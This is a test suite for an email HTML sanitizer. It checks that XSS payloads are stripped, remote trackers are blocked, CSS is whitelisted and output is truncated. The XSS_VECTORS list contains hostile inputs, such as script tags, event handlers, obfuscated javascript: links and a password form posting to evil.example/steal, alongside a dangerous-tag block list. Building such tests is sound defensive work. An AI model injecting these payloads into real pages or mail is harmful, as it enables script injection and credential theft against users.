import { describe, expect, test } from "bun:test";
import { Parser } from "htmlparser2";
import { BLOCKED_IMAGE_PLACEHOLDER, cleanCss, SANITIZER_VERSION, sanitizeHtml } from "../../src/mime/sanitize";

interface El {
  name: string;
  attribs: Record<string, string | undefined>;
}
/** Every element of the output as a browser-like parser sees it. */
function elements(html: string): El[] {
  const out: El[] = [];
  const p = new Parser(
    { onopentag: (name, attribs) => out.push({ name, attribs }) },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  p.write(html);
  p.end();
  return out;
}
const DANGEROUS_TAGS = [
  "script",
  "iframe",
  "object",
  "embed",
  "form",
  "base",
  "meta",
  "svg",
  "math",
  "input",
  "button",
  "textarea",
  "frame",
  "frameset",
  "applet",
];
function assertInert(html: string) {
  for (const el of elements(html)) {
    expect(DANGEROUS_TAGS).not.toContain(el.name);
    for (const [k, v] of Object.entries(el.attribs)) {
      expect(k.startsWith("on")).toBe(false);
      const value = (v ?? "").replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
      expect(value).not.toMatch(/^(?:javascript|vbscript|livescript):/);
      if (k === "href" || k === "src") expect(value.startsWith("data:") && !value.startsWith("data:image/")).toBe(false);
      if (k === "style") expect(value).not.toMatch(/expression\(|javascript:|behavior:|-moz-binding/);
    }
  }
}

const XSS_VECTORS: Array<[string, string]> = [
  ["script tag", `<p>hi</p><script>alert(1)</script>`],
  ["script with src", `<script src="https://evil.example/x.js"></script>`],
  ["img onerror", `<img src=x onerror="alert(1)">`],
  ["event handlers on anything", `<div onclick="alert(1)" onmouseover=alert(2)>x</div><body onload=alert(3)>`],
  ["javascript: href", `<a href="javascript:alert(1)">x</a>`],
  [
    "obfuscated javascript: href",
    `<a href="jav&#x61;script:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href=" JaVaScRiPt:alert(1)">c</a><a href="&#106;avascript:alert(1)">d</a>`,
  ],
  [
    "vbscript and data: hrefs",
    `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>`,
  ],
  ["svg onload", `<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a></svg>`],
  ["math and xlink", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`],
  [
    "style expression",
    `<div style="width: expression(alert(1)); color: red">x</div><p style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">y</p>`,
  ],
  ["css escapes", `<div style="background:u\\72 l(javascript:alert(1)); width: e\\78 pression(alert(1))">x</div>`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>`],
  ["base tag", `<base href="https://evil.example/"><a href="x">x</a>`],
  [
    "iframe object embed",
    `<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">`,
  ],
  ["form", `<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>`],
  ["img data:text/html src", `<img src="data:text/html,<script>alert(1)</script>">`],
  ["style tag breakout", `<style>p{color:red}\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e</style><p>x</p>`],
  ["noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  ["unclosed attribute", `<a href="https://ok.example/" title='x onmouseover=alert(1)'>x</a>`],
];

describe("XSS vectors are neutralised", () => {
  for (const [name, html] of XSS_VECTORS) {
    test(name, () => {
      for (const remote of ["strip", "allow"] as const) {
        const r = sanitizeHtml(html, { remote });
        assertInert(r.html);
        expect(r.html.toLowerCase()).not.toContain("<script");
        expect(r.sanitizer_version).toBe(SANITIZER_VERSION);
      }
    });
  }

  test("script content is dropped, surrounding text kept", () => {
    expect(sanitizeHtml(`<p>hi</p><script>alert(1)</script><p>bye</p>`, { remote: "strip" }).html).toBe("<p>hi</p><p>bye</p>");
  });

  test("meta refresh and base are removed entirely", () => {
    const r = sanitizeHtml(
      `<head><meta http-equiv="refresh" content="0;url=https://x"><base href="https://evil/"><title>T</title></head><body><p>x</p></body>`,
      { remote: "strip" },
    );
    expect(r.html).toBe("<div><p>x</p></div>");
  });
});

describe("links", () => {
  test("links open in a new tab without opener or referrer", () => {
    const [a] = elements(
      sanitizeHtml(`<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">x</a>`, { remote: "strip" }).html,
    );
    expect(a).toEqual({ name: "a", attribs: { href: "https://example.com/x?a=1&b=2", target: "_blank", rel: "noopener noreferrer" } });
  });

  test("mailto and tel hrefs stay, relative hrefs go", () => {
    const els = elements(
      sanitizeHtml(`<a href="mailto:a@example.com">m</a><a href="tel:+1555">t</a><a href="/v1/messages">r</a>`, { remote: "strip" }).html,
    );
    expect(els.map((e) => e.attribs.href ?? null)).toEqual(["mailto:a@example.com", "tel:+1555", null]);
  });
});

describe("remote content", () => {
  const email = `
    <html><head>
      <link rel="stylesheet" href="https://cdn.example/s.css">
      <link rel="icon" href="https://cdn.example/favicon.ico">
      <style>@import url("https://cdn.example/more.css"); @import 'https://cdn.example/other.css';
        .hero { background-image: url(https://cdn.example/hero.png); color: #333 }
        .logo { background: url('cid:logo@x') }</style>
    </head><body background="https://cdn.example/bg.png">
      <img src="https://tracker.example/open.gif?u=1" width="1" height="1" alt="">
      <img src="http://cdn.example/a.png" alt="A">
      <img src="//cdn.example/b.png" alt="B">
      <img src="cid:logo@x" alt="logo">
      <img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
      <img srcset="https://cdn.example/1x.png 1x, https://cdn.example/2x.png 2x" alt="set">
      <table background="https://cdn.example/t.png"><tr><td style="background-image: url('https://cdn.example/td.png')">cell</td></tr></table>
      <p style="color: red">text</p>
    </body></html>`;

  test("strip replaces remote images, drops remote stylesheets and counts each", () => {
    const r = sanitizeHtml(email, { remote: "strip" });
    // link, 2 x @import, hero url(), body background, 3 remote <img>, srcset, table background, td url()
    expect(r.remote_blocked).toBe(11);
    expect(r.html).not.toMatch(/ (?:src|href|background|srcset)="(?:https?:)?\/\//);
    expect(r.html).not.toMatch(/url\(\s*['"]?(?:https?:)?\/\//);
    expect(r.html).not.toContain("@import");
    const imgs = elements(r.html).filter((e) => e.name === "img");
    expect(imgs.map((i) => i.attribs.src ?? null)).toEqual([
      BLOCKED_IMAGE_PLACEHOLDER,
      BLOCKED_IMAGE_PLACEHOLDER,
      BLOCKED_IMAGE_PLACEHOLDER,
      "cid:logo@x",
      "data:image/png;base64,iVBORw0KGgo=",
      null,
    ]);
    expect(imgs[0]!.attribs["data-blocked-src"]).toBe("https://tracker.example/open.gif?u=1");
    expect(r.html).toContain("url('cid:logo@x')");
    expect(r.html).toContain('style="color: red"');
    expect(r.truncated).toBe(false);
  });

  test("allow keeps remote images and stylesheets, counts nothing", () => {
    const r = sanitizeHtml(email, { remote: "allow" });
    expect(r.remote_blocked).toBe(1); // the protocol-relative image: no scheme, so never loaded
    const els = elements(r.html);
    expect(els.filter((e) => e.name === "img").map((i) => i.attribs.src)).toContain("https://tracker.example/open.gif?u=1");
    expect(els.filter((e) => e.name === "link")).toEqual([
      { name: "link", attribs: { rel: "stylesheet", href: "https://cdn.example/s.css" } },
    ]);
    expect(r.html).toContain('@import url("https://cdn.example/more.css")');
    expect(r.html).toContain("url(https://cdn.example/hero.png)");
  });

  test("cleanCss counts every remote reference", () => {
    const { css, blocked } = cleanCss(
      `a{background:url(https://x/1.png)} b{background-image:image-set("https://x/2.png" 1x)} @import "https://x/c.css";`,
      "strip",
    );
    expect(blocked).toBe(3);
    expect(css).not.toContain("https://");
  });
});

describe("truncation", () => {
  test("output is cut at maxBytes on a tag boundary with truncated=true", () => {
    const html = "<p>" + "é".repeat(5000) + "</p>".repeat(1) + "<p>tail</p>".repeat(2000);
    const r = sanitizeHtml(html, { remote: "strip", maxBytes: 8000 });
    expect(r.truncated).toBe(true);
    expect(Buffer.byteLength(r.html)).toBeLessThanOrEqual(8000);
    expect(r.html).toStartWith("<p>éé");
    expect(Buffer.byteLength(r.html)).toBeGreaterThan(7990);
    expect(r.html).not.toContain("\ufffd");
    const tags = sanitizeHtml("<p>" + "a".repeat(7990) + '<a href="https://example.com/long">x</a>', { remote: "strip", maxBytes: 8000 });
    expect(tags.html).toBe("<p>" + "a".repeat(7990));
    const entity = sanitizeHtml("<p>" + "a".repeat(7994) + "&amp;&amp;</p>", { remote: "strip", maxBytes: 8000 });
    expect(entity.html).toBe("<p>" + "a".repeat(7994));
  });

  test("default limit is 2 MiB", () => {
    const small = sanitizeHtml("<p>x</p>".repeat(1000), { remote: "strip" });
    expect(small.truncated).toBe(false);
    const big = sanitizeHtml("<p>xxxxxxxxxx</p>".repeat(200_000), { remote: "strip" });
    expect(big.truncated).toBe(true);
    expect(Buffer.byteLength(big.html)).toBeLessThanOrEqual(2 * 1024 * 1024);
  });
});

test("typical email markup survives", () => {
  const r = sanitizeHtml(
    `<table cellpadding="0" width="600" align="center" bgcolor="#ffffff"><tr><td colspan="2" style="font-family:Arial"><h1>Hi</h1><font color="red" face="Arial">x</font><ul><li>a</li></ul><blockquote>q</blockquote></td></tr></table>`,
    { remote: "strip" },
  );
  expect(r.html).toBe(
    `<table cellpadding="0" width="600" align="center" bgcolor="#ffffff"><tr><td colspan="2" style="font-family:Arial"><h1>Hi</h1><font color="red" face="Arial">x</font><ul><li>a</li></ul><blockquote>q</blockquote></td></tr></table>`,
  );
  expect(r.remote_blocked).toBe(0);
});

describe("CSS keeps only known properties (sanitizer 2)", () => {
  test("a property split by a comment, or one no browser knows, goes with its declaration", () => {
    const r = sanitizeHtml(`<p style="color:red; xss:expr/**/ession(alert(1)); font-size:12px">x</p>`, { remote: "strip" });
    expect(r.html).toContain("color:red");
    expect(r.html).toContain("font-size:12px");
    expect(r.html).not.toContain("xss");
    expect(r.html).not.toContain("ession");
  });

  test("in <style> blocks too, nested in @media; Outlook's mso-* and vendor prefixes stay; behavior and -moz-binding go", () => {
    const r = sanitizeHtml(
      `<style>p{color:red;foo:bar;mso-line-height-rule:exactly;-webkit-text-size-adjust:100%} @media (max-width:600px){.a{width:100% !important;behavior:url(x.htc);-moz-binding:url(y)}}</style><p>x</p>`,
      { remote: "strip" },
    );
    const css = /<style>([\s\S]*)<\/style>/.exec(r.html)![1]!;
    expect(css).toContain("color:red");
    expect(css).toContain("mso-line-height-rule:exactly");
    expect(css).toContain("-webkit-text-size-adjust:100%");
    expect(css).toContain("width:100% !important");
    expect(css).not.toContain("foo");
    expect(css).not.toContain("behavior");
    expect(css).not.toContain("binding");
  });

  test("malformed CSS is read leniently: the known declarations before the damage stay", () => {
    const r = sanitizeHtml(`<p style="color:blue; }}} nonsense: 1; margin:0">x</p>`, { remote: "strip" });
    expect(r.html).toContain("color:blue");
    expect(r.html).not.toContain("nonsense");
  });
});

describe("remote content dropped with its element is counted", () => {
  test("an SVG <image href>, a <video poster> and an <iframe src> each count once", () => {
    for (const [html, n] of [
      [`<svg><image href="https://tracker.example/p.png"/></svg>`, 1],
      [`<video poster="https://cdn.example/p.jpg"><source src="https://cdn.example/v.mp4"></video>`, 2],
      [`<iframe src="https://evil.example/"></iframe>`, 1],
      [`<video poster="cid:part1"></video><svg><a href="https://example.com/">x</a></svg>`, 0],
    ] as const) {
      const strip = sanitizeHtml(html, { remote: "strip" });
      expect(strip.remote_blocked, html).toBe(n);
      expect(strip.html).not.toContain("example/");
    }
  });
});
